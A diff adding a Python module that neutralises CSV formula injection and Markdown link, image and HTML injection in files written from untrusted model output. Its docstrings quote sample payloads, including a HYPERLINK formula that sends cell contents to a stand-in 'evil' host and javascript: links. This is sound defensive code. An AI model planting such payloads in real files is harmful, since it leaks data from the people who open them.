@@ -1,0 +1,152 @@
+r"""Escaping untrusted text for the files people open: CSV (spreadsheets) and Markdown.
+
+Ids, metadata, rubric text, rationales and LLM answers are untrusted: they come from input
+files or from a model. Two helpers make them inert wherever calib writes them for people:
+
+* **CSV** -- every CSV calib writes goes through :func:`csv_safe_frame` (directly or via
+  :func:`write_csv` / :func:`csv_text`). A text cell that starts with ``=``, ``+``, ``-``,
+  ``@``, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google
+  Sheets ("CSV injection", OWASP: https://owasp.org/www-community/attacks/CSV_Injection), e.g.
+  ``=HYPERLINK("http://evil/?"&A1, "click")``. Such cells get a leading apostrophe, which the
+  spreadsheet shows as plain text; numbers (numeric columns, and numbers in mixed columns) are
+  left alone. Column names are treated the same way. Parquet files keep the raw values.
+* **Markdown** -- :func:`md_escape` HTML-escapes (most renderers pass raw HTML through) and
+  backslash-escapes every Markdown metacharacter, so ``[x](javascript:...)``,
+  ``![](http://host/pixel.png)``, ``<http://...>``, emphasis, headings and table pipes from
+  untrusted text render as the literal characters. Bare URLs and e-mail addresses are defused
+  too (``http\://``, ``www\.``, ``a\@b``) so GitHub-flavoured Markdown does not autolink them.
+"""
+
+from __future__ import annotations
+
+import html
+import io
+import math
+import re
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+
+__all__ = [
+    "FORMULA_START",
+    "csv_cell",
+    "csv_safe_frame",
+    "csv_text",
+    "md_code",
+    "md_escape",
+    "write_csv",
+]
+
+#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """Neutralise one CSV cell: text a spreadsheet would run as a formula gets a leading ``'``.
+
+    Examples
+    --------
+    >>> csv_cell("=HYPERLINK(1)"), csv_cell("-0.5 bias"), csv_cell(-0.5), csv_cell("ok")
+    ("'=HYPERLINK(1)", "'-0.5 bias", -0.5, 'ok')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def csv_safe_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` whose text cells and column names are neutralised by :func:`csv_cell`.
+
+    Vectorised over text columns (``object`` and string dtypes); numeric, boolean and
+    datetime columns are returned unchanged. The input is not modified.
+
+    Examples
+    --------
+    >>> csv_safe_frame(pd.DataFrame({"id": ["=1+1", "r2"], "x": [-1.0, 2.0]}))["id"].tolist()
+    ["'=1+1", 'r2']
+    """
+    out = df.copy()
+    for i in range(out.shape[1]):
+        s = out.iloc[:, i]
+        if isinstance(s.dtype, pd.CategoricalDtype):
+            s = s.astype(object)
+        if s.dtype == object:  # mixed cells: only str values are touched
+            if s.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_START)).any():
+                out.isetitem(i, s.map(csv_cell))
+        elif pd.api.types.is_string_dtype(s.dtype):  # vectorised, dtype kept
+            mask = s.str.startswith(FORMULA_START).fillna(False).astype(bool)
+            if mask.any():
+                out.isetitem(i, s.where(~mask, "'" + s))
+    out.columns = [csv_cell(str(c)) for c in out.columns]
+    return out
+
+
+def write_csv(df: pd.DataFrame, path: str | Path, **to_csv_kwargs: Any) -> Path:
+    """Write ``df`` as UTF-8 CSV after :func:`csv_safe_frame` (``index=False`` by default)."""
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    kwargs = {"index": False, "lineterminator": "\n", **to_csv_kwargs}
+    csv_safe_frame(df).to_csv(path, **kwargs)
+    return path
+
+
+def csv_text(df: pd.DataFrame, **to_csv_kwargs: Any) -> str:
+    """``df`` as CSV text (for stdout) after :func:`csv_safe_frame`."""
+    buf = io.StringIO()
+    kwargs = {"index": False, "lineterminator": "\n", **to_csv_kwargs}
+    csv_safe_frame(df).to_csv(buf, **kwargs)
+    return buf.getvalue()
+
+
+# Every ASCII punctuation character CommonMark lets a backslash escape that can start or end
+# markup (links, images, emphasis, code, headings, lists, tables, HTML, autolinks).
+_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~:>@])")
+
+
+def md_escape(text: Any) -> str:
+    r"""Escape untrusted text for a Markdown paragraph or table cell.
+
+    HTML-escapes ``&``, ``<``, ``>``, then backslash-escapes Markdown metacharacters, so no
+    link, image, autolink, emphasis or raw HTML can come out of the text; newlines become
+    spaces (a cell or list item stays one line). None and NaN give an empty string.
+
+    Examples
+    --------
+    >>> print(md_escape("[x](javascript:alert(1)) ![](http://h/p.png) a|b"))
+    \[x\]\(javascript\:alert\(1\)\) \!\[\]\(http\://h/p\.png\) a\|b
+    >>> print(md_escape("<b>www.evil.com</b>"))
+    &lt;b&gt;www\.evil\.com&lt;/b&gt;
+    """
+    if text is None or (isinstance(text, float) and math.isnan(text)):
+        return ""
+    s = html.escape(str(text), quote=False)
+    s = s.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")
+    s = s.replace("\u2028", " ").replace("\u2029", " ").replace("\x85", " ")
+    return _MD_SPECIAL.sub(r"\\\1", s)
+
+
+def md_code(text: Any) -> str:
+    """Untrusted text as one Markdown code span (rendered literally: no markup, no links).
+
+    The fence is longer than any run of backticks inside, as CommonMark requires; newlines
+    become spaces.
+
+    Examples
+    --------
+    >>> print(md_code("ml_interview"), md_code("a`b"), md_code("[x](javascript:1)"))
+    `ml_interview` ``a`b`` `[x](javascript:1)`
+    """
+    if text is None or (isinstance(text, float) and math.isnan(text)):
+        return "` `"
+    s = re.sub(r"[\r\n\u2028\u2029\x85]+", " ", str(text))
+    longest = max((len(m) for m in re.findall(r"`+", s)), default=0)
+    fence = "`" * (longest + 1)
+    pad = (
+        " "
+        if s.startswith("`")
+        or s.endswith("`")
+        or (s.startswith(" ") and s.endswith(" ") and s.strip())
+        else ""
+    )
+    return f"{fence}{pad}{s}{pad}{fence}"
